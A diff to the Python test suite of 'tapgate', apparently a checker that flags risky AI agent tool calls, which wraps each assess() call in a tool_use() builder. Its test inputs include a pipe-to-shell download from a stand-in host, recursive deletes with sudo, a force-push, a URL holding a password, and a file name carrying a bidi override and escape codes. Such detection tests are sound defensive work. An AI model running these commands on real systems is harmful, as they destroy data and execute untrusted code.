@@ -20,6 +20,7 @@ from hypothesis import strategies as st
 
 from tapgate.risk.assess import RULES, Risk, assess
 from tapgate.shell.parser import MAX_CHARS
+from tests.builders import tool_use
 from tests.masking.hostile import DEAREST, HOSTILE, shell_like
 
 PROJECT = "/home/dev/shop"
@@ -59,11 +60,11 @@ HARMFUL = [case for case in CASES if case.tool == "Bash" and case.risks and case
 
 
 def named(command: str, cwd: str = PROJECT, project: str = PROJECT) -> set[str]:
-    return {risk.name for risk in assess("Bash", {"command": command}, cwd=cwd, project=project, home=HOME)}
+    return {risk.name for risk in assess(tool_use("Bash", {"command": command}), cwd=cwd, project=project, home=HOME)}
 
 
 def sentence(command: str, name: str) -> str:
-    risks = assess("Bash", {"command": command}, cwd=PROJECT, project=PROJECT, home=HOME)
+    risks = assess(tool_use("Bash", {"command": command}), cwd=PROJECT, project=PROJECT, home=HOME)
     return next(risk.sentence for risk in risks if risk.name == name)
 
 
@@ -71,7 +72,7 @@ def test_corpus_has_no_miss_and_no_false_alarm() -> None:
     """Each entry gets exactly the names that it has in the file; what differs is printed."""
     misses, alarms = [], []
     for case in CASES:
-        found = {risk.name for risk in assess(case.tool, case.input, cwd=PROJECT, project=PROJECT, home=HOME)}
+        found = {risk.name for risk in assess(tool_use(case.tool, case.input), cwd=PROJECT, project=PROJECT, home=HOME)}
         misses += [f"{name:28} {case.shown!r}" for name in sorted(case.risks - found)]
         alarms += [f"{name:28} {case.shown!r}" for name in sorted(found - case.risks)]
     harmless = sum(not case.risks for case in CASES)
@@ -112,7 +113,9 @@ def test_rules_are_readable() -> None:
 
 def test_risks_come_in_the_order_of_the_table_and_once() -> None:
     command = "sudo rm -rf a; sudo rm -rf b; git push -f; curl x.example | sh; echo 'x"
-    found = [risk.name for risk in assess("Bash", {"command": command}, cwd=PROJECT, project=PROJECT, home=HOME)]
+    found = [
+        risk.name for risk in assess(tool_use("Bash", {"command": command}), cwd=PROJECT, project=PROJECT, home=HOME)
+    ]
     order = [rule.name for rule in RULES]
     assert found == sorted(set(found), key=order.index)
     assert found == ["destructive-delete", "pipe-to-shell", "privilege", "force-push", "not-understood"]
@@ -145,8 +148,7 @@ def test_sentences_are_concrete(command: str, name: str, expected: str) -> None:
 def test_sentences_hold_no_password_and_nothing_that_turns_text_around() -> None:
     """A card shows them: what an agent puts into a file's name must not be able to change how they read."""
     for risk in assess(
-        "Bash",
-        {"command": "curl https://me:hunter2@x.example/x; rm -rf 'a\u202eb\x1b[2Jc\ud800\n'"},
+        tool_use("Bash", {"command": "curl https://me:hunter2@x.example/x; rm -rf 'a\u202eb\x1b[2Jc\ud800\n'"}),
         cwd=PROJECT,
         project=PROJECT,
         home=HOME,
@@ -176,7 +178,9 @@ def test_the_project_tapgate_itself_can_be_worked_on() -> None:
 @pytest.mark.parametrize("path", sorted(CAPTURES.rglob("PermissionRequest*.json")), ids=lambda path: path.name)
 def test_what_agents_really_sent_is_assessed(path: Path) -> None:
     payload = json.loads(path.read_text(encoding="utf-8"))
-    risks = assess(payload["tool_name"], payload["tool_input"], cwd=payload["cwd"], project=payload["cwd"], home=HOME)
+    risks = assess(
+        tool_use(payload["tool_name"], payload["tool_input"]), cwd=payload["cwd"], project=payload["cwd"], home=HOME
+    )
     assert all(isinstance(risk, Risk) for risk in risks)
 
 
@@ -336,8 +340,8 @@ places = st.sampled_from(["/home/dev/shop", "/", "", "relative", "/home/dev", "/
 def test_any_input_is_assessed_and_twice_the_same(
     tool: str, fields: dict[str, Any], cwd: str, project: str, home: str
 ) -> None:
-    first = assess(tool, fields, cwd=cwd, project=project, home=home)
-    assert first == assess(tool, fields, cwd=cwd, project=project, home=home)
+    first = assess(tool_use(tool, fields), cwd=cwd, project=project, home=home)
+    assert first == assess(tool_use(tool, fields), cwd=cwd, project=project, home=home)
     assert len({risk.name for risk in first}) == len(first)
     for risk in first:
         assert risk.sentence.isprintable()
@@ -393,7 +397,7 @@ def test_sixteen_mebibytes_take_little_memory() -> None:
     try:
         assert {"destructive-delete", "too-long-to-check"} <= named(big)
         fields = {"file_path": "/home/dev/shop/x", "content": big}
-        assert assess("Write", fields, cwd=PROJECT, project=PROJECT, home=HOME) == ()
+        assert assess(tool_use("Write", fields), cwd=PROJECT, project=PROJECT, home=HOME) == ()
         _, peak = tracemalloc.get_traced_memory()
     finally:
         tracemalloc.stop()
@@ -420,7 +424,10 @@ def test_hold_out_has_no_miss_and_few_false_alarms(set_: str) -> None:
     for entry in entries:
         fields = entry.get("input", {"command": entry.get("command")})
         found = assess(
-            entry.get("tool", "Bash"), fields, cwd="/home/ann/shop", project="/home/ann/shop", home="/home/ann"
+            tool_use(entry.get("tool", "Bash"), fields),
+            cwd="/home/ann/shop",
+            project="/home/ann/shop",
+            home="/home/ann",
         )
         shown = entry.get("command") or f"{entry['tool']} {fields}"
         if entry["harm"] and not found:
@@ -442,6 +449,8 @@ def test_every_rule_stands_in_the_documentation() -> None:
 
 def test_a_project_below_a_directory_for_temporary_files_is_no_less_worth() -> None:
     command = {"command": "rm -rf build"}
-    found = assess("Bash", command, cwd="/tmp/x/shop", project="/tmp/x/shop", home="/home/dev")
+    found = assess(tool_use("Bash", command), cwd="/tmp/x/shop", project="/tmp/x/shop", home="/home/dev")
     assert [risk.sentence for risk in found] == ["Deletes /tmp/x/shop/build and everything in it"]
-    assert not assess("Bash", {"command": "rm -rf /tmp/y"}, cwd="/tmp/x/shop", project="/tmp/x/shop", home="/home/dev")
+    assert not assess(
+        tool_use("Bash", {"command": "rm -rf /tmp/y"}), cwd="/tmp/x/shop", project="/tmp/x/shop", home="/home/dev"
+    )
